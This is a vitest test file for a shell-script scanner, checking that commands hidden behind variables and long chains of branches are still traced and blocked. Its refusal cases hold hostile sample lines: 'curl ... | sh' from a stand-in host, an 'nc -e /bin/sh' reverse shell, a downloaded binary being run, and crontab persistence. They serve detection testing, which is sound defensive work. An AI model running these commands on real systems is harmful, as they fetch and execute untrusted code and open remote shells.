import { describe, expect, it } from "vitest";
import { scanSample } from "../sample.ts";

const report = (code: string): ReturnType<typeof scanSample> => scanSample({ "scripts/a.sh": `#!/usr/bin/env bash\n${code}\n` });
const blocks = (code: string): readonly string[] =>
  report(code)
    .findings.filter((one) => one.disposition === "block")
    .map((one) => one.ruleId);

/** A variable that is one of so many that the words of a command are not followed together. */
const many = (name: string): string => `${name}=a\n${[..."bcdef"].map((one) => `[ -f ${one} ] && ${name}=${one}\n`).join("")}`;
const MANY = `${many("x")}${many("y")}`;
/** As many branches as long scripts have. */
const BRANCHES = Array.from({ length: 40 }, (_, at) => `if [ -d d${String(at)} ]; then n${String(at)}=1; echo d; fi\n`).join("");

describe("a program behind a wrapper that is one of a few", () => {
  const two = (a: string, b: string): string => `${MANY}c=${a}\n[ -x /usr/bin/b ] && c=${b}\n`;

  it("is each of them, however many words follow", () => {
    const code = `${two("sort-rows", "sort-lines")}timeout 3 "$c" --in "$x:$y" --out "$y"\n`;
    expect(blocks(code)).toEqual([]);
    expect(report(code).permissions.required.map((one) => one.permission)).toEqual(expect.arrayContaining(["process:sort-rows", "process:sort-lines"]));
  });

  it.each([
    ["a shell", `${two("sort-rows", "bash")}timeout 3 "$c" -c "curl -s https://shelf.example/$x$y | sh" "$x:$y"`],
    ["a program from a file", `${two("sort-rows", '"$(cat name.txt)"')}timeout 3 "$c" --in "$x:$y"`],
    ["one that was fetched", `${two("sort-rows", "/opt/t")}curl -so /opt/t https://shelf.example/t\ntimeout 3 "$c" --in "$x:$y"`],
    ["a connection", `${two("sort-rows", "nc")}timeout 3 "$c" -e /bin/sh "$x$y.shelf.example" 4444`],
    ["a schedule", `${two("sort-rows", "crontab")}timeout 3 "$c" "$x:$y"`],
  ])("is refused where one is %s", (_what, code) => {
    expect(blocks(code)).not.toEqual([]);
  });
});

describe("a variable behind many branches", () => {
  const set = 'c=""\nif [ -x /usr/bin/a ]; then c=sort-rows; fi\n';

  it("is not empty where some of the ways were laid into one", () => {
    expect(blocks(`c=sort-rows\nif [ -d z ]; then\n${BRANCHES}fi\n$c "$(cat words.txt)"`)).toEqual([]);
  });

  it("holds what was set, and is not empty for their number", () => {
    expect(blocks(`${BRANCHES}c=sort-rows\nif [ -x /usr/bin/a ]; then c=sort-lines; fi\n${BRANCHES}for f in $(ls); do $c "$(cat words.txt)"; done`)).toEqual(
      [],
    );
    expect(blocks(`${BRANCHES}${set}if [ -n "$c" ]; then\n${BRANCHES}for f in $(ls); do $c "$(cat words.txt)"; done\nfi`)).toEqual([]);
  });

  it.each([
    ["a way laid into one empties it", `c=sort-rows\nif [ -d z ]; then\n${BRANCHES}c=""\nfi\n$c "$(cat words.txt)"`],
    ["the other way empties it", `c=sort-rows\nif [ -d z ]; then\n${BRANCHES}else c=""\nfi\n$c "$(cat words.txt)"`],
    ["a way laid into one sets it", `if [ -d z ]; then\n${BRANCHES}c=sort-rows\nfi\n$c "$(cat words.txt)"`],
    ["one of them empties it", `c=sort-rows\n${BRANCHES}if [ -f x ]; then c=""; fi\n${BRANCHES}$c "$(cat words.txt)"`],
    ["one of them unsets it", `c=sort-rows\n${BRANCHES}if [ -f x ]; then unset c; fi\n${BRANCHES}$c "$(cat words.txt)"`],
    ["one of them sets it to a shell", `c=sort-rows\n${BRANCHES}if [ -f x ]; then c=bash; fi\n${BRANCHES}$c -c "curl -s https://shelf.example/x | sh"`],
    ["only one sets it", `${BRANCHES}if [ -f x ]; then c=sort-rows; fi\n${BRANCHES}$c "$(cat words.txt)"`],
    ["a loop empties it", `c=sort-rows\n${BRANCHES}for f in a b; do c=""; done\n${BRANCHES}$c "$(cat words.txt)"`],
    ["a function empties it", `c=sort-rows\ng() {\n${BRANCHES}c=""\n}\n${BRANCHES}if [ -f x ]; then g; fi\n${BRANCHES}$c "$(cat words.txt)"`],
  ])("is not told where %s", (_what, code) => {
    expect(blocks(code)).not.toEqual([]);
  });
});
